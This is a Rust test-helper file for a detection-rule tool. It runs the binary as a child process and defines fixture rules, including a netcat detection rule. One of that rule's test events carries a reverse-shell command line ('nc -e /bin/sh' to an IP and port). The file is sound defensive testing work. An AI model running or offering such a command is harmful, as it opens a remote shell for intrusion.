//! The tool as a child process, and folders of rules for it.
#![allow(dead_code, unreachable_pub, reason = "each test file uses a part of it")]

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;
use tempfile::TempDir;

/// How a run ended.
#[derive(Debug)]
pub struct Run {
    pub code: Option<i32>,
    pub stdout: String,
    pub stderr: String,
}

impl Run {
    /// stdout as one JSON value.
    pub fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|error| panic!("{error}: {self:?}"))
    }

    /// stdout as JSON lines.
    pub fn lines(&self) -> Vec<Value> {
        self.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    }
}

pub fn command(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_lavender-rules"));
    command.args(arguments).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

pub fn run(arguments: &[&str]) -> Run {
    run_with(arguments, b"")
}

pub fn run_with(arguments: &[&str], stdin: &[u8]) -> Run {
    let mut child = command(arguments).stdin(Stdio::piped()).spawn().unwrap();
    let mut pipe = child.stdin.take().unwrap();
    let bytes = stdin.to_owned();
    let writer = std::thread::spawn(move || {
        // A tool that refuses its arguments reads nothing.
        let _ = pipe.write_all(&bytes);
    });
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap();
    Run {
        code: output.status.code(),
        stdout: String::from_utf8(output.stdout).unwrap(),
        stderr: String::from_utf8(output.stderr).unwrap(),
    }
}

/// A folder with these files.
pub fn folder(files: &[(&str, &str)]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    folder
}

pub fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// The rules that come with Lavender, as files.
pub fn builtin() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../lavender-detect/rules")
}

/// A rule without any smell.
pub const NETCAT: &str = "\
title: Netcat With a Program
id: 4d2e1c7a-2f0b-4f0e-9a53-6d6c4b1f0b11
status: test
description: netcat gives a program away.
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: /nc
        CommandLine|contains: ' -e '
    condition: selection
falsepositives:
    - Unknown
level: high
";

/// Its cases.
pub const NETCAT_TEST: &str = "\
rule: 4d2e1c7a-2f0b-4f0e-9a53-6d6c4b1f0b11
positive:
    - name: a shell is given away
      event: {Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.1 4444}
negative:
    - name: it asks for its version
      event: {Image: /usr/bin/nc, CommandLine: nc -h}
";

/// A rule with a fault on its line 7.
pub const BROKEN: &str = "\
title: Broken
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endwith: /nc
    condition: selection
";
